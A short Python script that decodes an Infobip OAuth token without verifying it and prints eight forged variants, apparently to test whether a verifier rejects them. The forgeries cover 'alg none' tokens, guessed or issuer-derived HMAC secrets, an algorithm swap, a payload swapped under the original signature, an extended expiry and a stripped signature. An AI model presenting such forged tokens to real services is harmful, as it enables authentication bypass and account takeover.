"""An OAuth token of Infobip as PyJWT reads it, and what PyJWT forges of it: infobip_jwt.py, with the token in
INFOBIP_TOKEN.

The answer is one line of JSON: what the token says, and the forgeries by name.
"""

import json
import os
import warnings

warnings.simplefilter("ignore")

import jwt

token = os.environ["INFOBIP_TOKEN"]
header = jwt.get_unverified_header(token)
claims = jwt.decode(token, options={"verify_signature": False})
names = ["exp", "iat", "iss", "jti", "sub"]
said = "{} {} {} {} {}".format(
    header["alg"],
    claims["iss"],
    claims["sub"],
    claims["exp"] - claims["iat"],
    "all claims of the sample" if all(name in claims for name in names) else names,
)


def forged(key, algorithm, **changes):
    headers = {"kid": header.get("kid")}
    return jwt.encode({**claims, **changes}, key, algorithm=algorithm, headers=headers)


head, payload, signature = token.split(".")
_, admin, _ = forged("x" * 32, "HS256", sub="reader").split(".")
forgeries = {
    "unsigned": forged(None, "none"),
    "unsigned-with-the-signature": forged(None, "none") + signature,
    "another-secret": forged("another secret of thirty-two bytes", "HS256"),
    "the-issuer-as-secret": forged(claims["iss"].ljust(32, "."), "HS256"),
    "another-algorithm": forged("x" * 64, "HS512"),
    "another-user-under-the-signature": ".".join([head, admin, signature]),
    "a-later-end": forged("x" * 32, "HS256", exp=claims["exp"] + 3600),
    "without-a-signature": f"{head}.{payload}.",
}
print(json.dumps({"said": said, "forgeries": forgeries}))
